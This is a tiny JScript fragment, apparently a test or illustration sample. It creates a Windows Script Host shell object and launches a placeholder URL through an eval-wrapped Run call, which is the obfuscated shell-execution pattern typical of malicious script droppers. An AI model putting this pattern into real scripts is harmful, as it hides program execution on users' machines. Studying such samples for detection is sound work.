var sh = new ActiveXObject("WScript.Shell");
var u = "http://example.invalid/";
eval("sh.Run(u)");
